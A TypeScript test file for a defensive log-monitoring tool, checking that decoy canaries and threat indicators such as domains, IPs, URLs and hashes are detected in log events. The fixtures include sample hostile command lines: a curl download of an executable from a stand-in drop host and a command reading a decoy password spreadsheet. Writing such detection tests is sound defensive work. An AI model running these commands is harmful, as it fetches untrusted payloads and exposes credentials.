/** Canaries and indicators: what is named is found, and nothing else. */
import { deepEqual, equal } from 'node:assert/strict';
import { test } from 'node:test';
import type { Fields } from '../core/event.ts';
import { FieldsView } from '../core/fields-view.ts';
import { Canaries } from './canaries.ts';
import { Indicators, readIndicators } from './indicators.ts';

const view = new FieldsView();
function shown(fields: Fields, text: string | null = null) {
  return view.show({ record: 1, at: 0, atText: null, zoneAssumed: false, logSource: {}, fields, text });
}

const canaries = new Canaries({
  accounts: ['svc-oldbackup'],
  hosts: ['finance-archive'],
  shares: ['\\\\files\\salaries$'],
  files: ['passwords 2019.xlsx'],
  patients: ['pt_abc123'],
});

const touches: readonly (readonly [what: string, fields: Fields, text: string | null, name: string | null])[] = [
  ['a sign-in as the account', { EventID: 4625, TargetUserName: 'SVC-OldBackup' }, null, 'svc-oldbackup'],
  ['the account with its domain', { User: 'RX1\\svc-oldbackup' }, null, 'svc-oldbackup'],
  ['the account as a mail address', { UserId: 'svc-oldbackup@rx1.example' }, null, 'svc-oldbackup'],
  ['an account whose name begins alike', { TargetUserName: 'svc-oldbackup2' }, null, null],
  [
    'a connection to the host',
    { Computer: 'ws1', DestinationHostname: 'finance-archive.rx1.local' },
    null,
    'finance-archive',
  ],
  ['the host by its share', { Computer: 'ws1', ShareName: '\\\\finance-archive' }, null, 'finance-archive'],
  ['what the host says of itself', { Computer: 'finance-archive', EventID: 7036 }, null, null],
  [
    'a sign-in at the host',
    { Channel: 'Security', EventID: 4624, Computer: 'finance-archive', TargetUserName: 'kim', LogonType: '3' },
    null,
    'finance-archive',
  ],
  ['the share', { ShareName: '\\\\FILES\\Salaries$' }, null, '\\\\files\\salaries$'],
  [
    'the share as its own server logs it (5140, 5145)',
    { Computer: 'FILES.rx1.local', EventID: 5140, ShareName: '\\\\*\\Salaries$' },
    null,
    '\\\\files\\salaries$',
  ],
  [
    'a share of the same name on another server',
    { Computer: 'hr1.rx1.local', EventID: 5140, ShareName: '\\\\*\\Salaries$' },
    null,
    null,
  ],
  ['the share with its domain', { Path: '\\\\files.rx1.local\\salaries$\\may.xlsx' }, null, '\\\\files\\salaries$'],
  ['a share that begins alike', { Path: '\\\\files.rx1.local\\salaries$2' }, null, null],
  ['the file in a command line', { CommandLine: 'type "d:\\it\\Passwords 2019.XLSX"' }, null, 'passwords 2019.xlsx'],
  ['the patient in a raw line', {}, 'opened pt_abc123 at 09:00', 'pt_abc123'],
  ['nothing of it', { CommandLine: 'notepad.exe' }, 'hello', null],
];
for (const [what, fields, text, name] of touches) {
  test(`canaries: ${what}: ${name ?? 'no touch'}`, () => {
    equal(canaries.touchedBy(shown(fields, text))?.name ?? null, name);
  });
}

const list = readIndicators(
  [
    'value,description',
    'bad[.]example,seen with a loader',
    '203.0.113.9,',
    '2001:DB8:0:0::1',
    'hxxp://Drop.example/a/b.exe;',
    `${'a1'.repeat(32)},dropper`,
    '# a comment',
    '',
    'not an indicator,x',
  ].join('\n'),
);

test('indicators are read from CSV and lists, defanged or not; a line that is none is named', () => {
  deepEqual(
    list.indicators.map(({ kind, value }) => [kind, value]),
    [
      ['domain', 'bad.example'],
      ['address', '203.0.113.9'],
      ['address', '2001:db8::1'],
      ['url', 'http://drop.example/a/b.exe'],
      ['hash', 'a1'.repeat(32)],
    ],
  );
  deepEqual(list.wrong, [9]);
});

const indicators = new Indicators();
for (const indicator of list.indicators) indicators.add(indicator);

const met: readonly (readonly [what: string, fields: Fields, text: string | null, value: string | null])[] = [
  ['a question for the name', { QueryName: 'bad.example' }, null, 'bad.example'],
  ['a question for a name under it', { QueryName: 'a.b.bad.example' }, null, 'bad.example'],
  ['a name that ends alike', { QueryName: 'notbad.example' }, null, null],
  ['a name that goes on', { QueryName: 'bad.example.org' }, null, null],
  ['an address in a field', { DestinationIp: '203.0.113.9' }, null, '203.0.113.9'],
  ['an address in a line, with its port', {}, 'denied tcp 203.0.113.9:443', '203.0.113.9'],
  ['an address that begins alike', {}, 'denied tcp 203.0.113.91', null],
  ['an IPv6 address', { DestinationIp: '2001:DB8::1' }, null, '2001:db8::1'],
  [
    'an IPv6 address as Suricata writes it',
    { dest_ip: '2001:0db8:0000:0000:0000:0000:0000:0001' },
    null,
    '2001:db8::1',
  ],
  ['another IPv6 address', { dest_ip: '2001:0db8:0000:0000:0000:0000:0000:0002' }, null, null],
  ['an IPv4 address as Windows and sshd write it', { IpAddress: '::ffff:203.0.113.9' }, null, '203.0.113.9'],
  ['the same in a line', {}, 'Failed password from ::FFFF:203.0.113.9 port 22', '203.0.113.9'],
  ['another such', { IpAddress: '::ffff:203.0.113.91' }, null, null],
  [
    'a web address in a command line',
    { CommandLine: 'curl http://drop.example/a/b.exe -o x' },
    null,
    'http://drop.example/a/b.exe',
  ],
  ['another web address there', { CommandLine: 'curl http://drop.example/other -o x' }, null, null],
  ['Sysmon’s hashes', { Hashes: `MD5=${'0'.repeat(32)},SHA256=${'A1'.repeat(32)}` }, null, 'a1'.repeat(32)],
  ['nothing of it', { Image: 'c:\\windows\\system32\\svchost.exe', v: '10.0.19045.3803' }, 'hello', null],
];
for (const [what, fields, text, value] of met) {
  test(`indicators: ${what}: ${value ?? 'none'}`, () => {
    equal(indicators.foundIn(shown(fields, text))?.value ?? null, value);
  });
}

test('a text made to be slow is searched in bounded time', () => {
  for (const piece of ['a.', 'a-', ':', '1.', 'http://', '_', 'f'.repeat(63)])
    equal(indicators.foundIn(shown({}, piece.repeat(200_000))), null);
});
